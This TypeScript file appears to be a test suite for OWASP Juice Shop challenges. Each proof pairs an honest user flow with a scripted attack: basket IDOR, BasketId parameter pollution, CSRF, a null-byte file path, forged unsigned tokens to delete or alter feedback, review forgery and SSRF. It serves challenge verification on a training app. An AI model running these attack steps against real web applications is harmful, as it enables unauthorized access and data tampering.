import { forgeUnsigned } from '../attacker/forge-token.js'
import { asksForPrice, converse } from '../features/chat.js'
import { browseAsJim, tokenOfJim } from '../features/customers.js'
import { buys, openBuyer, putIntoBasket } from '../features/orders.js'
import { openPage, readsFiles, readsPages, seePicture, visit } from '../features/pages.js'
import { haveServerCallItself, internalPath, linksPicture, renames } from '../features/profile.js'
import { bossReview, editReview, reviews } from '../features/reviews.js'
import { describeProduct, keepsProducts } from '../features/shelf.js'
import { giveFeedback, givesFeedback } from '../features/texts.js'
import { type Act, proof } from '../proof.js'

export const aiDebuggingChallenge = proof({
  async attack(me) {
    const question = [{ role: 'user', content: 'How much is the Banana Juice?' }]
    await converse(me, question, { headers: { Cookie: 'show_tool_calls=true' }, token: await tokenOfJim(me) })
  },
  honest: asksForPrice,
})

const moveItem: Act = async (me) => {
  const buyer = await openBuyer(me, 'mover@juice.example')
  const { data } = (await putIntoBasket(me, buyer, 3)).json<{ data: { id: number } }>()
  await me.put(`/api/BasketItems/${data.id}`, { BasketId: 1 }, { token: buyer.token })
}

export const basketAccessChallenge = proof({
  attack: async (me) => me.get('/rest/basket/1', { token: await tokenOfJim(me) }),
  honest: buys,
})

export const basketManipulateChallenge = proof({
  async attack(me) {
    const { token, bid } = await me.register('smuggler@juice.example')
    await me.post('/api/BasketItems', `{"ProductId":14,"BasketId":"${bid}","quantity":1,"BasketId":"1"}`, { token })
    await moveItem(me)
  },
  otherAttacks: [moveItem],
  honest: buys,
})

const description = '<a href="https://owasp.slack.com" target="_blank">More...</a>'

export const changeProductChallenge = proof({
  attack: describeProduct(9, description),
  otherAttacks: [async (me) => me.put('/api/Products/9', { description }, { token: await tokenOfJim(me) })],
  honest: keepsProducts,
})

export const csrfChallenge = proof({
  async attack(me) {
    const form = new URLSearchParams({ username: 'CSRF' })
    await (await browseAsJim(me)).send('/profile', form, { Origin: 'http://htmledit.squarefree.com' })
  },
  honest: renames,
})

export const easterEggLevelOneChallenge = proof({ attack: visit('/ftp/eastere.gg%2500.md'), honest: readsFiles })

export const feedbackChallenge = proof({
  async attack(me) {
    const token = await tokenOfJim(me)
    const { data } = (await me.get('/api/Feedbacks')).json<{ data: { id: number; rating: number }[] }>()
    for (const { id, rating } of data) if (rating === 5) await me.delete(`/api/Feedbacks/${id}`, { token })
  },
  otherAttacks: [
    async (me) => {
      for (let id = 1; id < 9; id += 1)
        await me.put(`/api/Feedbacks/${id}`, { rating: 1 }, { token: forgeUnsigned({}) })
    },
  ],
  honest: givesFeedback,
})

export const forgedFeedbackChallenge = proof({ attack: giveFeedback({ UserId: 3 }), honest: givesFeedback })

export const forgedReviewChallenge = proof({
  async attack(me) {
    const token = await tokenOfJim(me)
    const old = await bossReview(me)
    await me.put('/rest/products/1/reviews', { message: 'x', author: 'admin@juice-sh.op' }, { token })
    await editReview(me, old)
  },
  honest: reviews,
})

export const adminSectionChallenge = proof({
  attack: seePicture('19px.png'),
  browserStep: 'picture',
  honest: readsPages,
})

export const web3SandboxChallenge = proof({
  attack: openPage('/web3-sandbox', '11px.png'),
  browserStep: 'picture',
  honest: readsPages,
})

export const ssrfChallenge = proof({
  attack: haveServerCallItself,
  otherAttacks: [
    async (me) => {
      await haveServerCallItself(me)
      await me.get(internalPath)
    },
  ],
  honest: linksPicture,
})
